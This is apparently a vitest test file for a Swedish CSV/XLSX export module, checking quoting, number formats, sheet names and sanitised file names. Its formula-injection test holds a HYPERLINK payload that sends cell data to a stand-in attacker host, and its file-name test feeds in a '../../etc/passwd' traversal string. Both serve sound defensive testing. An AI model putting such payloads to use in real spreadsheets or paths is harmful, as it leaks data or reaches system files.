import { inflateRawSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { type CellValue, type ExportColumn, exportFileName, toCsv, toXlsx } from './export.js';

interface TestRow {
  name: string | null | undefined;
  amount: number | null | undefined;
  start: string | null | undefined;
}

const columns: ExportColumn<TestRow>[] = [
  { key: 'name', header: 'Namn', value: (row) => row.name },
  { key: 'amount', header: 'Belopp (kr)', value: (row) => row.amount, type: 'number', width: 14 },
  { key: 'start', header: 'Startdatum', value: (row) => row.start, type: 'date' },
];

/** CSV lines without the BOM, split on CRLF (only safe when no field holds a line break). */
function csvLines(csv: string): string[] {
  return csv.slice(1).split('\r\n');
}

function parseCsv(csv: string): string[][] {
  return parse(csv, { delimiter: ';', bom: true, record_delimiter: '\r\n', relax_quotes: false });
}

/** What the CSV should hold for a value: see toCsv's contract. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
function expectedCsvField(value: CellValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value).replace('.', ',') : '';
  return FORMULA_START.test(value) ? `'${value}` : value;
}

describe('toCsv', () => {
  it('starts with the UTF-8 BOM and uses ; and CRLF, including after the last row', () => {
    const csv = toCsv(columns, [{ name: 'Ale', amount: 1, start: '2026-01-01' }]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toBe('\uFEFFNamn;Belopp (kr);Startdatum\r\nAle;1;2026-01-01\r\n');
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('writes only the header row when there are no rows', () => {
    expect(toCsv(columns, [])).toBe('\uFEFFNamn;Belopp (kr);Startdatum\r\n');
  });

  it('quotes fields holding ; " CR LF and doubles inner quotes', () => {
    const csv = toCsv(columns, [
      { name: 'a;b', amount: null, start: null },
      { name: 'säger "hej"', amount: null, start: null },
      { name: 'rad 1\nrad 2', amount: null, start: null },
      { name: 'rad 1\r\nrad 2', amount: null, start: null },
      { name: 'slut\r', amount: null, start: null },
      { name: 'vanlig text, med komma', amount: null, start: null },
    ]);
    const body = csv.slice(csv.indexOf('\r\n') + 2);
    expect(body).toBe(
      [
        '"a;b";;',
        '"säger ""hej""";;',
        '"rad 1\nrad 2";;',
        '"rad 1\r\nrad 2";;',
        '"slut\r";;',
        // A comma is not the separator here, so no quoting is needed.
        'vanlig text, med komma;;',
        '',
      ].join('\r\n'),
    );
  });

  it('keeps Swedish letters intact', () => {
    const name = 'Åsa Öberg från Ängelholm – åäöÅÄÖ é';
    const csv = toCsv(columns, [{ name, amount: null, start: null }]);
    expect(csvLines(csv)[1]).toBe(`${name};;`);
    const bytes = Buffer.from(csv, 'utf8');
    expect(bytes.toString('utf8')).toBe(csv);
    expect(parseCsv(csv)[1]?.[0]).toBe(name);
  });

  it('writes non-integers with a decimal comma and integers unchanged, no thousands separator', () => {
    const csv = toCsv(columns, [
      { name: null, amount: 1234.5, start: null },
      { name: null, amount: 1234, start: null },
      { name: null, amount: -0.25, start: null },
      { name: null, amount: 1234567.891, start: null },
      { name: null, amount: 0, start: null },
    ]);
    expect(csvLines(csv).slice(1, 6).map((line) => line.split(';')[1])).toEqual([
      '1234,5',
      '1234',
      '-0,25',
      '1234567,891',
      '0',
    ]);
  });

  it('writes null, undefined and non-finite numbers as empty fields', () => {
    const csv = toCsv(columns, [
      { name: null, amount: undefined, start: undefined },
      { name: undefined, amount: Number.NaN, start: null },
      { name: '', amount: Number.POSITIVE_INFINITY, start: '' },
    ]);
    expect(csvLines(csv).slice(1)).toEqual([';;', ';;', ';;', '']);
  });

  it('defuses formula injection but leaves plain numbers alone', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")';
    const csv = toCsv(columns, [
      { name: evil, amount: -5, start: null },
      { name: '+46 31 123 45', amount: -1234.5, start: null },
      { name: '-5', amount: null, start: null },
      { name: '@SUM(A1:A2)', amount: null, start: null },
      { name: '\t=1+1', amount: null, start: null },
      { name: '\r=1+1', amount: null, start: null },
      { name: '\uFF1D1+1', amount: null, start: null },
      { name: 'a=1', amount: null, start: null },
    ]);
    const records = parseCsv(csv).slice(1);
    expect(records.map((record) => record[0])).toEqual([
      `'${evil}`,
      "'+46 31 123 45",
      "'-5", // a string, so it is defused
      "'@SUM(A1:A2)",
      "'\t=1+1",
      "'\r=1+1",
      "'\uFF1D1+1",
      'a=1', // only the first character matters
    ]);
    expect(records[0]?.[1]).toBe('-5');
    expect(records[1]?.[1]).toBe('-1234,5');
    // The defused field holds both ; and " so it is quoted as a whole, apostrophe included.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klicka"")";-5;`);
  });

  it('defuses header cells too', () => {
    const csv = toCsv([{ key: 'x', header: '=1+1', value: () => 'a' }], [{}]);
    expect(csvLines(csv)[0]).toBe("'=1+1");
  });

  it('round-trips 200 random rows through csv-parse', () => {
    // Full Unicode graphemes plus a dense mix of the characters that matter for CSV and injection.
    const tricky = fc.string({
      unit: fc.constantFrom(';', '"', '\n', '\r', '\r\n', ',', "'", ' ', '=', '+', '-', '@', '\t', 'å', 'Ä', 'ö', '\uFF1D', 'x'),
    });
    const text = fc.oneof(fc.string({ unit: 'grapheme' }), tricky);
    const cell = fc.oneof(
      text,
      fc.integer(),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.constant(null),
      fc.constant(undefined),
    );
    const arbitraryRow = fc.tuple(cell, cell, cell);
    const tupleColumns: ExportColumn<CellValue[]>[] = [0, 1, 2].map((index) => ({
      key: `c${index}`,
      header: `Kolumn ${index}`,
      value: (row) => row[index],
    }));

    fc.assert(
      fc.property(fc.array(arbitraryRow, { minLength: 200, maxLength: 200 }), (rows) => {
        const csv = toCsv(tupleColumns, rows);
        const records = parseCsv(csv);
        expect(records[0]).toEqual(['Kolumn 0', 'Kolumn 1', 'Kolumn 2']);
        expect(records.slice(1)).toEqual(rows.map((row) => row.map(expectedCsvField)));
      }),
      { numRuns: 25 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// XLSX

/** Minimal ZIP reader (stored/deflated entries) to inspect the XML parts of an .xlsx file. */
function unzip(buffer: Buffer): Map<string, string> {
  const files = new Map<string, string>();
  const endOfCentralDirectory = buffer.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const entries = buffer.readUInt16LE(endOfCentralDirectory + 10);
  let offset = buffer.readUInt32LE(endOfCentralDirectory + 16);
  for (let i = 0; i < entries; i++) {
    const method = buffer.readUInt16LE(offset + 10);
    const compressedSize = buffer.readUInt32LE(offset + 20);
    const nameLength = buffer.readUInt16LE(offset + 28);
    const extraLength = buffer.readUInt16LE(offset + 30);
    const commentLength = buffer.readUInt16LE(offset + 32);
    const localHeader = buffer.readUInt32LE(offset + 42);
    const name = buffer.toString('utf8', offset + 46, offset + 46 + nameLength);
    const dataStart =
      localHeader + 30 + buffer.readUInt16LE(localHeader + 26) + buffer.readUInt16LE(localHeader + 28);
    const raw = buffer.subarray(dataStart, dataStart + compressedSize);
    files.set(name, (method === 0 ? raw : inflateRawSync(raw)).toString('utf8'));
    offset += 46 + nameLength + extraLength + commentLength;
  }
  return files;
}

const sampleRows: TestRow[] = [
  { name: 'Åsa Öberg i Ängelholm', amount: 1234.5, start: '2026-11-21' },
  { name: '=1+1', amount: -5, start: null },
  { name: 'rad 1\nrad 2', amount: 42, start: '2026-02-30' },
  { name: null, amount: Number.NaN, start: '1899-12-31' },
];

describe('toXlsx', () => {
  it('returns a Buffer holding a ZIP (xlsx) file', async () => {
    const buffer = await toXlsx(columns, sampleRows, 'Projekt');
    expect(Buffer.isBuffer(buffer)).toBe(true);
    expect(buffer.subarray(0, 2).toString('latin1')).toBe('PK');
  });

  it('reads back headers, Swedish text, numbers and real dates', async () => {
    const buffer = await toXlsx(columns, sampleRows, 'Projekt');
    const data = await readSheet(buffer, 'Projekt', { trim: false });
    expect(data[0]).toEqual(['Namn', 'Belopp (kr)', 'Startdatum']);
    expect(data[1]).toEqual(['Åsa Öberg i Ängelholm', 1234.5, new Date(Date.UTC(2026, 10, 21))]);
    expect(data[1]?.[2]).toBeInstanceOf(Date);
    // Strings are text cells in XLSX, never formulas, so they are written verbatim.
    expect(data[2]).toEqual(['=1+1', -5, null]);
    // Impossible or pre-1900 dates stay visible as text rather than becoming wrong dates.
    expect(data[3]).toEqual(['rad 1\nrad 2', 42, '2026-02-30']);
    // NaN has no cell representation: empty.
    expect(data[4]).toEqual([null, null, '1899-12-31']);
  });

  it('writes a bold header, a frozen first row, column widths and a yyyy-mm-dd date format', async () => {
    const files = unzip(await toXlsx(columns, sampleRows, 'Projekt'));
    const sheet = files.get('xl/worksheets/sheet1.xml') ?? '';
    const styles = files.get('xl/styles.xml') ?? '';
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(sheet).toMatch(/<pane [^>]*topLeftCell="A2"/);
    // Explicit width for "Belopp", computed widths for the others (at least the header length).
    expect(sheet).toMatch(/<col min="2" max="2" width="14" customWidth="1"\/>/);
    const nameWidth = Number(/<col min="1" max="1" width="(\d+)"/.exec(sheet)?.[1]);
    expect(nameWidth).toBeGreaterThanOrEqual('Åsa Öberg i Ängelholm'.length);
    expect(styles).toContain('<b/>');
    expect(styles).toContain('formatCode="yyyy-mm-dd"');
    // The header cells (row 1) share a style whose font is bold.
    const headerStyle = /<c r="A1" s="(\d+)"/.exec(sheet)?.[1];
    expect(headerStyle).toBeDefined();
    const cellXfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '';
    const xf = [...cellXfs.matchAll(/<xf [^>]*?(?:\/>|>[\s\S]*?<\/xf>)/g)][Number(headerStyle)]?.[0] ?? '';
    const fontId = Number(/fontId="(\d+)"/.exec(xf)?.[1]);
    const fonts = [...(/<fonts[^>]*>([\s\S]*?)<\/fonts>/.exec(styles)?.[1] ?? '').matchAll(/<font>[\s\S]*?<\/font>|<font\/>/g)];
    expect(fonts[fontId]?.[0]).toContain('<b/>');
  });

  it('uses the given sheet name and repairs names Excel would reject', async () => {
    const ok = await readSheet(await toXlsx(columns, sampleRows, 'Göteborgs projekt'), 'Göteborgs projekt');
    expect(ok[0]?.[0]).toBe('Namn');

    const files = unzip(await toXlsx(columns, [], 'Projekt: 2026/27 [utkast] med ett väldigt långt namn'));
    const name = /<sheet [^>]*name="([^"]*)"/.exec(files.get('xl/workbook.xml') ?? '')?.[1] ?? '';
    expect(name.length).toBeLessThanOrEqual(31);
    expect(name).not.toMatch(/[[\]/\\:*?]/);
    expect(name.startsWith('Projekt 2026 27 utkast')).toBe(true);

    const empty = unzip(await toXlsx(columns, [], ' :: '));
    expect(empty.get('xl/workbook.xml')).toMatch(/<sheet [^>]*name="Blad1"/);
  });

  it('keeps the header row when there are no rows', async () => {
    const data = await readSheet(await toXlsx(columns, [], 'Tom'));
    expect(data).toEqual([['Namn', 'Belopp (kr)', 'Startdatum']]);
  });

  it('writes cells whose text is an Object.prototype member name (write-excel-file bug workaround)', async () => {
    const names = ['constructor', '__proto__', 'toString', 'valueOf', 'hasOwnProperty', 'vanlig text', 'constructor'];
    const rows: TestRow[] = names.map((name) => ({ name, amount: 1, start: null }));
    const nameColumns: ExportColumn<TestRow>[] = [{ key: 'toString', header: 'toString', value: (row) => row.name }, ...columns];
    const buffer = await toXlsx(nameColumns, rows, 'Blad1');
    const sheet = unzip(buffer).get('xl/worksheets/sheet1.xml') ?? '';
    expect(sheet).not.toContain('native code');
    expect(sheet).not.toContain('[object Object]');
    const data = await readSheet(buffer);
    expect(data[0]).toEqual(['toString', 'Namn', 'Belopp (kr)', 'Startdatum']);
    expect(data.slice(1).map((row) => row[0])).toEqual(names);
    expect(data.slice(1).map((row) => row[1])).toEqual(names);
  });

  it('round-trips random printable text', async () => {
    // XML 1.0 cannot hold most control characters; write-excel-file drops them, so exclude them here.
    // Also not noncharacters (U+FFFE, U+FFFF) and not `_xHHHH_`, which XLSX readers take for an escaped character.
    const printable = fc
      .string({ unit: 'grapheme', minLength: 1 })
      .filter((s) => !/\p{Cc}/u.test(s) && !/[\uFFFE\uFFFF]/u.test(s) && !/_x[0-9a-f]{4}_/i.test(s));
    const text = fc.oneof(printable, fc.constantFrom('constructor', '__proto__', 'toString', ' å ', '&<>"\''));
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 30 }), async (names) => {
        const rows: TestRow[] = names.map((name) => ({ name, amount: null, start: null }));
        const data = await readSheet(await toXlsx(columns, rows, 'Blad1'), { trim: false });
        expect(data.slice(1).map((row) => row[0])).toEqual(names);
      }),
      { numRuns: 20 },
    );
  });

  it('exports 5,000 rows', async () => {
    const rows: TestRow[] = Array.from({ length: 5000 }, (_, i) => ({
      name: `Projekt ${i} – Ängelholms kommun`,
      amount: i * 1.25,
      start: `2026-${String((i % 12) + 1).padStart(2, '0')}-15`,
    }));
    const started = performance.now();
    const buffer = await toXlsx(columns, rows, 'Projekt');
    const elapsed = performance.now() - started;
    console.log(`toXlsx: 5,000 rows in ${elapsed.toFixed(0)} ms, ${(buffer.length / 1024).toFixed(0)} KiB`);
    const csvStarted = performance.now();
    const csv = toCsv(columns, rows);
    console.log(`toCsv: 5,000 rows in ${(performance.now() - csvStarted).toFixed(0)} ms, ${(csv.length / 1024).toFixed(0)} KiB`);

    const data = await readSheet(buffer);
    expect(data).toHaveLength(5001);
    expect(data[5000]).toEqual(['Projekt 4999 – Ängelholms kommun', 4999 * 1.25, new Date(Date.UTC(2026, 7, 15))]);
  });
});

// ---------------------------------------------------------------------------------------------
// File names

describe('exportFileName', () => {
  const noon = new Date('2026-11-21T12:00:00Z');

  it.each([
    ['Ale projekt', 'csv', 'ale-projekt-2026-11-21.csv'],
    ['Ale projekt', 'xlsx', 'ale-projekt-2026-11-21.xlsx'],
    ['Ale projekt', 'json', 'ale-projekt-2026-11-21.json'],
    ['Åmål, Älvdalen & Örebro', 'csv', 'amal-alvdalen-orebro-2026-11-21.csv'],
    ['Café Ängö', 'csv', 'cafe-ango-2026-11-21.csv'],
    ['  --Projekt  2026/27!!--  ', 'csv', 'projekt-2026-27-2026-11-21.csv'],
    ['Malmö-Kraków samarbete', 'csv', 'malmo-krakow-samarbete-2026-11-21.csv'],
    ['Søren Æbelø Straße', 'csv', 'soren-aebelo-strasse-2026-11-21.csv'],
    ['../../etc/passwd', 'csv', 'etc-passwd-2026-11-21.csv'],
    ['', 'csv', 'export-2026-11-21.csv'],
    ['日本語', 'xlsx', 'export-2026-11-21.xlsx'],
  ] as const)('%j → %s', (base, extension, expected) => {
    expect(exportFileName(base, extension, noon)).toBe(expected);
  });

  it('uses the Swedish calendar date, not UTC', () => {
    // 23:30 UTC on 21 November is 00:30 on 22 November in Stockholm (CET, UTC+1).
    expect(exportFileName('x', 'csv', new Date('2026-11-21T23:30:00Z'))).toBe('x-2026-11-22.csv');
    // Summer time (CEST, UTC+2).
    expect(exportFileName('x', 'csv', new Date('2026-06-30T22:30:00Z'))).toBe('x-2026-07-01.csv');
  });

  it('defaults to today', () => {
    expect(exportFileName('Ale', 'csv')).toMatch(/^ale-\d{4}-\d{2}-\d{2}\.csv$/);
  });

  it('caps the name at 80 characters before the extension without a trailing dash', () => {
    const name = exportFileName(`${'långt namn '.repeat(20)}`, 'xlsx', noon);
    const stem = name.slice(0, -'.xlsx'.length);
    expect(stem.length).toBeLessThanOrEqual(80);
    expect(stem.endsWith('-2026-11-21')).toBe(true);
    expect(stem).not.toContain('--');
  });

  it('always yields lower-case ASCII letters, digits and single dashes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.constantFrom('csv', 'xlsx', 'json' as const), (base, extension) => {
        const name = exportFileName(base, extension, noon);
        expect(name).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*\.(csv|xlsx|json)$/);
        expect(name.length - extension.length - 1).toBeLessThanOrEqual(80);
      }),
    );
  });
});
